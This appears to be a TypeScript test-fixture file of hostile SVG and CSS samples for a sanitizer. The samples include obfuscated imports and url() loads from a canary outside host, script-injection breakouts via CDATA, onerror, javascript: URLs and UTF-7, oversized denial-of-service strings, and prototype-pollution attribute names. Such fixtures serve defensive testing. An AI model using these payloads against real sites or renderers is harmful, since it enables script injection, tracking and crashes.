import { evil, outside } from './canary.ts'
import { entities, style, svg } from './drawing.ts'

/** Styles that load or run something. */
export const styles = {
  'an import': style(`@import url("${outside}/a.css");rect{fill:red}`),
  'an import without url': style(`@import "${outside}/a.css";`),
  'an import with an escape': style(`@\\69mport "${outside}/a.css";`),
  'an import in mixed case with a comment': style(`@ImPoRt/**/"${outside}/a.css";`),
  'an import in CDATA': svg(`<style><![CDATA[@import '${outside}/a.css';]]></style>`),
  'a font': style(
    `@font-face{font-family:other;src:url(${outside}/a.woff2)}text{font-family:other}`,
  ),
  'a colour from outside': style(`rect{fill:url(${outside}/a.svg#b)}`),
  'a colour from outside with an escape': style(`rect{fill:u\\72l(${outside}/a.svg#b)}`),
  'a colour from outside as a text': style(`rect{fill:url( "${outside}/a.svg#b" )}`),
  'a background': style(`svg{background:url(${outside}/a.png)}`),
  'a set of pictures': style(
    `svg{background-image:image-set("${outside}/a.png" 1x);mask-image:src("${outside}/b")}`,
  ),
  'an expression': style(`rect{width:expression(evil())}`),
  'a behaviour': style(`rect{behavior:url(${outside}/a.htc);-moz-binding:url(${outside}/a.xml#b)}`),
  'a variable': style(`svg{--a:url(${outside}/a.svg#b)}rect{fill:var(--a)}`),
  'a cursor': style(`*{cursor:url(${outside}/a.cur),auto}`),
  'an address in a media query': style(`@media screen{rect{filter:url(${outside}/a.svg#f)}}`),
  'an address in a rule within a rule': style(`svg{fill:red;& rect{fill:url(${outside}/a.svg#b)}}`),
  'an address in keyframes': style(
    `@keyframes k{to{fill:url(${outside}/a.svg#b)}}rect{animation:k 1s}`,
  ),
  'rules for what can be supported': style(
    `@supports (fill:red){rect{fill:url(${outside}/a.svg#b)}}@namespace url(${outside});`,
  ),
  'what reads the page by selectors': style(`[href^="a"]{fill:url(${outside}/a)}`),
  'an end of the style': svg(`<style><![CDATA[</style><script>${evil}</script>]]></style>`),
  'an attribute with a background': svg(
    `<circle r="9" style="background:url(${outside}/a.png);fill:url('${outside}/a.svg#b')"/>`,
  ),
  'an attribute with a script': svg(
    `<circle r="9" style="fill:url(javascript:${entities(evil)})"/>`,
  ),
  'paint from outside': svg(
    `<circle r="9" fill="url(${outside}/a.svg#b)" stroke="url('${outside}/a.svg#c')"/>`,
  ),
  'paint from outside with an escape': svg(`<circle r="9" fill="u\\72l(${outside}/a.svg#b)"/>`),
  'paint from outside with a comment': svg(
    `<circle r="9" fill="/**/url(/**/${outside}/a.svg#b)"/>`,
  ),
  'filter, mask, clip and marker from outside': svg(
    `<path d="M0 0h9" filter="url(${outside}/a#f)" mask="url(${outside}/a#m)" clip-path="url(${outside}/a#c)" marker-end="url(${outside}/a#e)" cursor="url(${outside}/a.cur),auto"/>`,
  ),
}

/** Texts that try to become markup. */
export const masquerades = {
  'a text that ends its element': svg(
    `<text>]]&gt;&lt;/text&gt;&lt;script&gt;${entities(evil)}&lt;/script&gt;</text>`,
  ),
  'a title that ends its element': svg(
    '<title><![CDATA[</title><img src="x:x" onerror="window.evil=1">]]></title>',
  ),
  'an attribute that ends itself': svg(
    `<g aria-label="&quot;&gt;&lt;script&gt;window.evil=1&lt;/script&gt;"/>`,
  ),
  'an encoding that hides a script': `<?xml version="1.0" encoding="UTF-7"?>${svg('<g>+ADw-script+AD4-evil()+ADw-/script+AD4-</g>')}`,
  'brackets within brackets in a style': svg(`<style>a{fill:${'('.repeat(50_000)}}</style>`),
  'brackets within brackets in an attribute': svg(`<g fill="${'('.repeat(200_000)}"/>`),
  'values that go on and on': svg(`<animate attributeName="x" values="${'a'.repeat(1_000_000)}"/>`),
  'addresses that are never closed': svg(`<g aria-label="${'url(#'.repeat(200_000)}"/>`),
  'a width that goes on and on': svg(`<g/>`, `width="${'1'.repeat(1_000_000)}x"`),
  'names of objects': svg('<g __proto__="evil" constructor="evil" hasOwnProperty="evil"/>'),
}
